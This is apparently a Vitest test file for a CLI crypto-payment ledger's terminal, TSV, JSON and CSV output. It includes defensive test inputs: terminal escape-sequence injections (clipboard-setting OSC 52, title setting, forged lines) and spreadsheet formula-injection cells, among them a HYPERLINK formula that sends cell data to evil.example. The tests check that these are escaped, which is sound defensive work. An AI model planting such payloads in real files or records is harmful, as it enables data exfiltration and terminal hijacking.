/**
 * Tables for a terminal, a pipe and a spreadsheet (issue #15 item 4). The terminal runs are a
 * real pseudo-terminal (util-linux `script`) at COLUMNS=80.
 */
import { describe, expect, it } from 'vitest';
import { evmTx, EVM_TO, HAS_SCRIPT, paidOrder, runPty, SLOW, stripAnsi, TRON_CHAIN, USDT_ETH, USDT_TRON, withMerchant, type Sandbox } from './_support.js';

const TRON_TO = 'TNPeeaaFB7K9cmo4uQpcU32zGK8G1NYqeL';
const BOX = /[│┌┐└┘├┤┬┴┼─]/;

/** A ledger with a paid order and two withdrawals (EVM, TRON), one of them confirmed. */
async function withWithdrawals(): Promise<Sandbox & { mchId: string; confirmTx: string; orderId: string }> {
  const s = await withMerchant();
  const orderId = await paidOrder(s, 'T-1', 'user-1', '100');
  const evm = await s.json<{ id: string }>(['withdraw', 'apply', '--uid', 'user-1', '--amount', '12.5', '--to', EVM_TO, '--chain-id', '1', '--chain-type', 'EVM', '--token', USDT_ETH]);
  await s.json(['withdraw', 'apply', '--uid', 'user-1', '--amount', '3', '--to', TRON_TO, '--chain-id', TRON_CHAIN, '--chain-type', 'TRON', '--token', USDT_TRON]);
  const confirmTx = evmTx();
  await s.json(['withdraw', 'confirm', evm.id, '--tx-hash', confirmTx, '--block-number', '19000000', '--yes']);
  return Object.assign(s, { confirmTx, orderId });
}

/** Columns a line of terminal text takes (every character here is one column wide). */
const widest = (text: string) => Math.max(...text.split(/\r?\n/).map((l) => [...l].length));

describe.skipIf(!HAS_SCRIPT).concurrent('on a terminal 80 columns wide', { timeout: SLOW }, () => {
  it('withdraw list and log fit in 80 columns: no borders, no row dividers, addresses and hashes shortened in the middle, ids whole, relative times', async () => {
    const s = await withWithdrawals();
    const env = { COLUMNS: '80', NO_COLOR: '1' };
    const [list, log] = await Promise.all([runPty(['--db', s.db, 'withdraw', 'list'], { env }), runPty(['--db', s.db, 'log'], { env })]);
    for (const r of [list, log]) {
      expect(r.code, r.text).toBe(0);
      expect(widest(r.text), r.text).toBeLessThanOrEqual(80);
      expect(r.text).not.toMatch(BOX);
    }
    const ids = (await s.json<{ id: string }[]>(['withdraw', 'list'])).map((w) => w.id);
    // One line per withdrawal under one header, each with its whole id.
    const lines = list.text.trim().split(/\r?\n/);
    expect(lines[0]).toMatch(/^ID\s+UID\s+AMOUNT\s+TO\b/);
    for (const id of ids) expect(lines.filter((l) => l.startsWith(id))).toHaveLength(1);
    // Addresses shortened in the middle, never whole.
    expect(list.text).toContain(`${EVM_TO.slice(0, 6)}…${EVM_TO.slice(-4)}`);
    expect(list.text).toContain(`${TRON_TO.slice(0, 5)}…${TRON_TO.slice(-4)}`);
    expect(list.text).not.toContain(EVM_TO);
    // What did not fit is named, not silently dropped.
    expect(list.text).toMatch(/left out to fit 80 columns: .*created/);

    // The log: relative times, hashes shortened, each entry's details under it.
    expect(log.text).toMatch(/^TIME\s+ACTOR\s+ACTION\s+SUBJECT/m);
    expect(log.text).toMatch(/^(just now|\d+ min ago)\s+\S+\s+withdrawal\.confirmed\s+wd_/m);
    expect(log.text).toContain(`txHash=${s.confirmTx.slice(0, 6)}…${s.confirmTx.slice(-4)}`);
    expect(log.text).not.toContain(s.confirmTx);
    expect(log.text).not.toMatch(/\d{4}-\d\d-\d\dT\d\d:\d\d/);
  });

  it('records (order show, withdraw show, summary) fit in 80 columns: values wrap under their column at word boundaries; hashes, addresses and URLs stay whole', async () => {
    const s = await withWithdrawals();
    const memo = 'the customer asked twice for this order because the first parcel arrived broken and the second one never came';
    const long = await s.json<{ id: string }>(['order', 'create', '--oid', 'MEMO-1', '--uid', 'user-1', '--amount', '5', '--memo', memo]);
    const env = { COLUMNS: '80', NO_COLOR: '1' };
    const wd = (await s.json<{ id: string; txHash: string | null }[]>(['withdraw', 'list'])).find((w) => w.txHash)!;
    const runs = await Promise.all([['order', 'show', s.orderId], ['withdraw', 'show', wd.id], ['summary'], ['order', 'show', long.id]].map((args) => runPty(['--db', s.db, ...args], { env })));
    for (const r of runs) {
      expect(r.code, r.text).toBe(0);
      // Every line fits but one holding a single word longer than the room (none here).
      expect(widest(r.text), r.text).toBeLessThanOrEqual(80);
    }
    const [order, withdrawal, , memoed] = runs.map((r) => r.text.replace(/\r/g, ''));
    // Whole: the payment's hash, the order's addresses and the withdrawal's destination and hash.
    const o = await s.json<{ addresses: { EVM: string; TRON: string }; payments: { txHash: string }[] }>(['order', 'show', s.orderId]);
    for (const whole of [o.payments[0]!.txHash, o.addresses.EVM, o.addresses.TRON]) expect(order).toContain(whole);
    expect(withdrawal).toContain(EVM_TO);
    expect(withdrawal).toContain(wd.txHash!);
    // A long value goes on under its own column, not under the labels, every word whole.
    const lines = memoed.split('\n');
    const at = lines.findIndex((l) => l.startsWith('memo '));
    const column = lines[at]!.indexOf('the customer');
    expect(column, memoed).toBeGreaterThan(0);
    const text: string[] = [lines[at]!.slice(column)];
    for (let i = at + 1; i < lines.length && lines[i]!.slice(0, column).trim() === ''; i++) text.push(lines[i]!.slice(column));
    expect(text.length, memoed).toBeGreaterThan(1);
    expect(text.join(' ')).toBe(memo);
  });

  it('TERM=dumb: plain ASCII, still fitted and shortened', async () => {
    const s = await withWithdrawals();
    const env = { COLUMNS: '80', TERM: 'dumb' };
    const runs = await Promise.all([['withdraw', 'list'], ['log'], ['order', 'list'], ['refund', 'list'], ['merchant', 'list'], ['chains']].map((args) => runPty(['--db', s.db, ...args], { env })));
    for (const r of runs) {
      expect(r.code, r.text).toBe(0);
      // eslint-disable-next-line no-control-regex
      expect(r.out, r.text).toMatch(/^[\x00-\x7f]*$/);
      expect(r.out).not.toContain('\x1b');
      expect(widest(r.text), r.text).toBeLessThanOrEqual(80);
    }
    expect(runs[0]!.text).toContain(`${EVM_TO.slice(0, 6)}...${EVM_TO.slice(-4)}`);
  });

  it('a wider terminal shows every column; text a terminal could act on is shown as a mark', async () => {
    const s = await withWithdrawals();
    await s.ok(['refund', '--id', s.orderId, '--amount', '1', '--remark', 'red \x1b[31mALERT\x1b[0m', '--yes']);
    const [wide, refunds] = await Promise.all([
      runPty(['--db', s.db, 'withdraw', 'list'], { env: { COLUMNS: '160', NO_COLOR: '1' } }),
      runPty(['--db', s.db, 'refund', 'list'], { env: { COLUMNS: '160', NO_COLOR: '1' } }),
    ]);
    expect(wide.code, wide.text).toBe(0);
    expect(wide.text).toMatch(/^ID\s+UID\s+AMOUNT\s+TO\s+CHAIN\s+STATUS\s+TX HASH\s+CREATED/m);
    expect(wide.text).not.toMatch(/left out/);
    expect(wide.text).toMatch(/TRON 728126428/);
    expect(refunds.out).not.toContain('\x1b[31m');
    expect(refunds.text).toContain('red \ufffd[31mALERT');
  });
});

describe.concurrent('in a pipe and for a spreadsheet', { timeout: SLOW }, () => {
  it('piped: a header row, then tab-separated rows with every value whole and times in ISO 8601', async () => {
    const s = await withWithdrawals();
    const out = await s.ok(['withdraw', 'list']);
    const [head, ...rows] = out.trimEnd().split('\n').map((l) => l.split('\t'));
    expect(head).toEqual(['id', 'uid', 'amount', 'to', 'chain', 'status', 'tx hash', 'created']);
    expect(rows).toHaveLength(2);
    const evm = rows.find((r) => r[3] === EVM_TO)!;
    expect(evm[6]).toBe(s.confirmTx);
    expect(evm[7]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/);
    expect(rows.find((r) => r[3] === TRON_TO)![4]).toBe(`TRON ${TRON_CHAIN}`);
    // An empty list is still its header.
    expect(await s.ok(['order', 'list', '--status', 'EXPIRED'])).toBe('id\toid\tuid\tamount\tstatus\tpaid\trefunded\texpires\n');
  });

  it('piped: a tab or newline inside a value cannot split a row', async () => {
    const s = await withMerchant();
    const id = await paidOrder(s, 'P-1', 'u1', '10');
    await s.ok(['refund', '--id', id, '--amount', '1', '--remark', 'line one\nline\ttwo \\ end', '--repeat', '--yes']);
    const out = await s.ok(['refund', 'list']);
    const lines = out.trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]!.split('\t')[4]).toBe('line one\\nline\\ttwo \\\\ end');
  });

  // Found by an outside review: `order show | cat -v` printed a memo's ESC sequences and a CR
  // and LF as they were, so the memo drew in colour, set the window's title, and forged a line
  // of its own. In a pipe a record's value is written as the TSV rows write theirs (\\, \t, \n,
  // \r) and every other control character as \u followed by its code: one line per field.
  it('piped: a record keeps each field on one line, and no control character passes through', async () => {
    const s = await withMerchant();
    const memo = 'hi\x1b[31mRED\x1b]0;TITLE\x07\r\nstatus  PAID \\ end\u2028x';
    const o = await s.json<{ id: string }>(['order', 'create', '--oid', 'M-1', '--uid', 'u1', '--amount', '1', '--memo', memo]);
    const out = await s.ok(['order', 'show', o.id]);
    expect(out).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f\u2028]/);
    expect(out.split('\n').filter((l) => l.startsWith('status'))).toEqual(['status        PENDING_PAY']);
    expect(out).toMatch(/^memo +hi\\u001b\[31mRED\\u001b\]0;TITLE\\u0007\\r\\nstatus  PAID \\\\ end\\u2028x$/m);
  });

  // Found by an operator review: --json wrote what JSON.stringify leaves raw (C1 controls such as
  // U+009B, a terminal's one-byte CSI; DEL; bidi overrides; line separators) to the terminal as
  // it was. They are written as \u escapes: the same JSON value, nothing a terminal acts on.
  it('--json: every string value comes back exactly, and nothing a terminal acts on is written raw', async () => {
    const s = await withMerchant();
    const memo = 'a\u009b31mRED \u0085x\u007fy \u202eevil\u2066 \u2028z\u200b \u00e9\u4e2d\u{1F600}';
    const o = await s.json<{ id: string }>(['order', 'create', '--oid', 'J-1', '--uid', 'u1', '--amount', '1', '--memo', memo]);
    const out = await s.ok(['--json', 'order', 'show', o.id]);
    expect((JSON.parse(out) as { memo: string }).memo).toBe(memo);
    expect(out).not.toMatch(/[\u007f-\u009f\u061c\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069]/);
    expect(out).toContain('"memo": "a\\u009b31mRED \\u0085x\\u007fy \\u202eevil\\u2066 \\u2028z\\u200b \u00e9\u4e2d\u{1F600}"');
  });

  it('--format csv: RFC 4180 quoting, whole values, and no cell that a spreadsheet would run as a formula', async () => {
    const s = await withMerchant();
    // (CONCAT, not "&": an oid holds no "&", it is sent back in signed callbacks.)
    const formula = '=HYPERLINK(CONCAT("http://evil.example/?",A1),"click")';
    const id = await paidOrder(s, formula, '@SUM(1+1)', '10');
    await s.ok(['refund', '--id', id, '--amount', '1', '--remark', 'dented, "badly"', '--repeat', '--yes']);
    const [orders, refunds] = await Promise.all([s.ok(['--format', 'csv', 'order', 'list']), s.ok(['--format', 'csv', 'refund', 'list'])]);
    const orderLines = orders.split('\r\n');
    expect(orderLines[0]).toBe('id,oid,uid,amount,status,paid,refunded,expires');
    expect(orderLines[1]).toBe(`${id},"'=HYPERLINK(CONCAT(""http://evil.example/?"",A1),""click"")",'@SUM(1+1),10,PAID,10,1,${orderLines[1]!.split(',').at(-1)}`);
    expect(orderLines[1]!.split(',').at(-1)).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/);
    expect(orders.endsWith('\r\n')).toBe(true);
    expect(refunds).toContain(',"dented, ""badly""",');

    // + and - start formulas too; a plain number is left alone (a spreadsheet reads it as the number it is).
    await s.json(['order', 'create', '--oid', '+cmd|calc', '--uid', '-5', '--amount', '1']);
    await s.json(['order', 'create', '--oid', '-2+3', '--uid', 'u2', '--amount', '1']);
    const more = (await s.ok(['--format', 'csv', 'order', 'list'])).split('\r\n').map((l) => l.split(','));
    expect(more.find((r) => r[1] === "'+cmd|calc")![2]).toBe('-5');
    expect(more.find((r) => r[1] === "'-2+3")![2]).toBe('u2');
    // A blank before the = still starts a formula (an id may no longer start with one; a remark may).
    await s.ok(['refund', '--id', id, '--amount', '1', '--remark', ' =1+1', '--repeat', '--yes']);
    expect(await s.ok(['--format', 'csv', 'refund', 'list'])).toContain(",' =1+1,");
    // Escapes, a carriage return, a C1 control and a bidi override become U+FFFD: shown on a
    // terminal the file would clear it, set the clipboard (OSC 52) or overwrite a line (an
    // attacker review, session 24). A line break and a tab stay, quoted, for the spreadsheet.
    await s.ok(['refund', '--id', id, '--amount', '1', '--remark', 'a\u001b[2J\u001b]52;c;cm0=\u0007b\rc\u009b31m\u202ed\ne\tf', '--repeat', '--yes']);
    const [list, show] = await Promise.all([s.ok(['--format', 'csv', 'refund', 'list']), s.ok(['--format', 'csv', 'order', 'show', id])]);
    expect(list).toContain(',"a\ufffd[2J\ufffd]52;c;cm0=\ufffdb\ufffdc\ufffd31m\ufffdd\ne\tf",');
    expect(show).toMatch(/^refund,"1 USDT at \S+ \(rf_\S+\): a\ufffd\[2J\ufffd\]52;c;cm0=\ufffdb\ufffdc\ufffd31m\ufffdd\ne\tf"\r$/m);
    expect(list + show).not.toMatch(/[\u001b\u0007\u009b\u202e]/);
  });

  it('--format csv: withdraw list writes each amount as a number with its asset in a column of its own, as order list writes amounts', async () => {
    // A new-user trial: "12.5 USDT" in one cell is text to a spreadsheet, where order list's 3 is a number.
    const s = await withWithdrawals();
    const lines = (await s.ok(['--format', 'csv', 'withdraw', 'list'])).trim().split('\r\n');
    expect(lines[0]).toBe('id,uid,amount,asset,to,chain,status,tx hash,created');
    const cells = lines.slice(1).map((l) => l.split(','));
    expect(cells.map((c) => [c[2], c[3]]).sort()).toEqual([['12.5', 'USDT'], ['3', 'USDT']]);
    // The table for a person keeps the unit with the amount.
    expect(await s.ok(['--format', 'tsv', 'withdraw', 'list'])).toMatch(/\t12\.5 USDT\t/);
  });

  it('--format json is --json; --format with --json is a usage error; an unknown format is a usage error', async () => {
    const s = await withWithdrawals();
    const [asJson, viaFormat, both, unknown] = await Promise.all([
      s.run(['--json', 'withdraw', 'list']),
      s.run(['--format', 'json', 'withdraw', 'list']),
      s.run(['--json', '--format', 'csv', 'withdraw', 'list']),
      s.run(['withdraw', 'list', '--format', 'xls']),
    ]);
    expect(viaFormat.code).toBe(0);
    expect(JSON.parse(viaFormat.stdout)).toEqual(JSON.parse(asJson.stdout));
    expect(both.code).toBe(2);
    expect(both.stderr).toMatch(/--json and --format csv/);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(/table, tsv, csv, json/);
  });

  it('--format table in a pipe: the terminal table, fitted to COLUMNS', async () => {
    const s = await withWithdrawals();
    const r = await s.run(['--format', 'table', 'withdraw', 'list'], { env: { COLUMNS: '100' } });
    expect(r.code, r.stderr).toBe(0);
    expect(stripAnsi(r.stdout)).toMatch(/^ID\s+UID\s+AMOUNT/);
    expect(widest(r.stdout)).toBeLessThanOrEqual(100);
    expect(r.stdout).toContain(`${EVM_TO.slice(0, 6)}…`);
  });
});

describe('lists of a ledger with more than one merchant', { timeout: SLOW }, () => {
  it('order, refund, withdraw and callbacks lists and order find add a merchant column when their rows are of several merchants, and not for one', async () => {
    const s = await withMerchant('A');
    const b = await s.json<{ mchId: string }>(['merchant', 'add', '--name', 'B', '--generate-wallet']);
    // The same oid, uid and amounts at both merchants: the rows differ only in whose they are.
    const ids: Record<string, string> = {};
    const payouts: Record<string, string> = {};
    for (const m of [s.mchId, b.mchId]) {
      const o = await s.json<{ id: string }>(['--mch-id', m, 'order', 'create', '--oid', 'SAME-1', '--uid', 'u1', '--amount', '2', '--notify-url', 'https://shop.example/cb']);
      await s.json(['--mch-id', m, 'order', 'mark-paid', o.id, '--tx-hash', evmTx(), '--yes']);
      await s.json(['--mch-id', m, 'refund', '--id', o.id, '--amount', '1', '--remark', 'r', '--yes']);
      const w = await s.json<{ id: string }>(['--mch-id', m, 'withdraw', 'apply', '--uid', 'u1', '--amount', '0.5', '--to', EVM_TO, '--chain-id', '1', '--chain-type', 'EVM', '--token', USDT_ETH]);
      ids[m] = o.id;
      payouts[m] = w.id;
    }
    const lists = [['order', 'list'], ['refund', 'list'], ['callbacks', 'list'], ['withdraw', 'list'], ['order', 'find', 'u1']];
    for (const list of lists) {
      const tsv = (await s.ok(list)).trim().split('\n').map((l) => l.split('\t'));
      const col = tsv[0]!.indexOf('merchant');
      expect(col, `${list.join(' ')}: ${tsv[0]!.join(' ')}`).toBeGreaterThan(-1);
      for (const m of [s.mchId, b.mchId]) {
        const mine = [ids[m], `order:${ids[m]}`, payouts[m], `withdrawal:${payouts[m]}`];
        const rows = tsv.slice(1).filter((r) => r.some((cell) => mine.includes(cell)));
        expect(rows.length, `${list.join(' ')} rows of ${m}`).toBeGreaterThan(0);
        for (const r of rows) expect(r[col]).toBe(m);
      }
      // One merchant's rows: no column to read.
      const one = (await s.ok(['--mch-id', b.mchId, ...list])).trim().split('\n');
      expect(one.length).toBeGreaterThan(1);
      expect(one[0]!.split('\t')).not.toContain('merchant');
    }
  });
});
